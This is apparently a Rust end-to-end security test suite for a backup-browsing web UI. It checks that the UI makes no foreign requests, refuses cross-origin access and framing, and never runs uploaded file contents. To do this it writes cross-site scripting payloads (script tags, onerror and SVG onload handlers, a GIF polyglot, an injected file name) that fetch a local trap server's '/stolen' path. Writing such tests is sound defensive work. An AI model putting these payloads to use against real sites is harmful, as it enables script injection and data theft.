//! What is hostile: another origin on this machine that the browser has open, and contents of files.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use anyhow::{Context, Result, ensure};
use serde_json::Value;

use crate::stand::{STORE, Stand};

/// What tries everything, and notes what it got.
const ATTACK: &str = include_str!("attack.html");
/// A page.
const HTML: &str = "text/html; charset=utf-8";
/// Ways that it tries.
const WAYS: usize = 6;

pub(crate) fn nothing_else_is_asked(stand: &mut Stand) -> Result<()> {
    let asked = stand.browser.requests()?;
    // Pages have names of their own below `localhost`; other origins of these tests have the address.
    let host = |url: &str| url.split('/').nth(2).and_then(|host| host.split(':').next()).unwrap_or_default().to_owned();
    let is_here = |url: &str| matches!(host(url).rsplit('.').next(), Some("localhost")) || host(url) == "127.0.0.1";
    let is_own = |url: &&String| !url.starts_with("http") || is_here(url);
    let foreign: Vec<&String> = asked.iter().filter(|url| !is_own(url)).collect();
    ensure!(asked.len() > 20, "{} requests were seen", asked.len());
    ensure!(foreign.is_empty(), "{foreign:?}");
    Ok(())
}

pub(crate) fn hostile_contents_do_nothing(stand: &mut Stand) -> Result<()> {
    let trap = Elsewhere::start(HTML, |_| String::new())?;
    let call = format!("document.title='owned';fetch('{}/stolen',{{mode:'no-cors'}})", trap.address);
    let files: [(&str, String); 5] = [
        ("page.html", format!("<!doctype html><script>{call}</script><img src=x onerror=\"{call}\">")),
        (
            "picture.svg",
            format!("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{call}\"><script>{call}</script></svg>"),
        ),
        ("both.gif", format!("GIF89a/*\u{1}*/=1;{call};//<script>{call}</script>")),
        ("end.txt", format!("</pre></bdi><script>{call}</script>")),
        ("<img src=x onerror=alert(1)>.txt", format!("</pre><script>{call}</script>")),
    ];
    for (name, text) in &files {
        std::fs::write(stand.home.join("hostile").join(name), text)?;
    }
    let id = credenza_e2e::snapshot_of(&stand.setup.backup("@home")?)?;
    let browser = &stand.browser;
    stand.show(&format!("/r/{STORE}"))?;
    stand.show(&format!("/r/{STORE}/s/{id}?key=hostile/"))?;
    browser.expect("<img src=x onerror=alert(1)>.txt")?;
    for (name, _) in &files {
        stand.show(&format!("/r/{STORE}/s/{id}?key=hostile/"))?;
        browser.click(name)?;
        browser.expect("Download")?;
        browser.click("Download")?;
        let title = browser.run("return document.title")?;
        ensure!(title.as_str().is_some_and(|title| title.ends_with("– credenza")), "{name}: {title}");
    }
    ensure!(trap.asked() == 0, "a file was run");
    Ok(())
}

pub(crate) fn another_origin_gets_nothing(stand: &mut Stand) -> Result<()> {
    let runs = |stand: &Stand| {
        stand.show(&format!("/r/{STORE}"))?;
        Ok::<_, anyhow::Error>(stand.browser.source()?.matches("/run/").count())
    };
    let before = runs(stand)?;
    let style = stand.browser.find("link[rel=stylesheet]")?.attribute("href")?.context("a page has a style")?;
    for host in ["127.0.0.1", "localhost"] {
        let page = ATTACK.replace("UI", &stand.ui.address).replace("STYLE", &style);
        let elsewhere = Elsewhere::start(HTML, |_| page)?;
        stand.browser.open(&elsewhere.address.replace("127.0.0.1", host))?;
        let got = stand.browser.run_until(&format!(
            "const done = arguments[0]; const look = () => Object.keys(got).length < {WAYS} ? setTimeout(look, 50) : done(got); look()"
        ))?;
        let got = got.as_object().context("the attack says what it got")?;
        for (way, answer) in got {
            ensure!(answer == &Value::from("refused"), "{way} from {host}: {answer}");
        }
        let framed = stand.browser.complaints()?.join("\n");
        ensure!(framed.contains("frame-ancestors") || framed.contains("X-Frame-Options"), "{framed}");
    }
    ensure!(runs(stand)? == before, "another origin has started a run");
    stand.show("/")?;
    stand.browser.expect("Kept.")
}

/// Another server on this machine, with one answer to all.
pub(crate) struct Elsewhere {
    pub(crate) address: String,
    asked: Arc<AtomicUsize>,
}

impl Elsewhere {
    /// It serves a text of a type, made for its address, until the test ends.
    pub(crate) fn start(kind: &'static str, text: impl FnOnce(&str) -> String) -> Result<Self> {
        let listener = TcpListener::bind(("127.0.0.1", 0))?;
        let address = format!("http://{}", listener.local_addr()?);
        let text = text(&address);
        let asked = Arc::new(AtomicUsize::new(0));
        let counted = Arc::clone(&asked);
        std::thread::spawn(move || {
            for stream in listener.incoming().map_while(Result::ok) {
                counted.fetch_add(1, Ordering::SeqCst);
                // A browser that goes away has what it wanted.
                let _ = serve(stream, kind, &text);
            }
        });
        Ok(Self { address, asked })
    }

    fn asked(&self) -> usize {
        self.asked.load(Ordering::SeqCst)
    }
}

fn serve(mut stream: TcpStream, kind: &str, text: &str) -> std::io::Result<()> {
    let mut asked = [0; 8192];
    let _ = stream.read(&mut asked)?;
    let head = format!("HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nConnection: close\r\n");
    write!(stream, "{head}Content-Length: {}\r\n\r\n{text}", text.len())
}
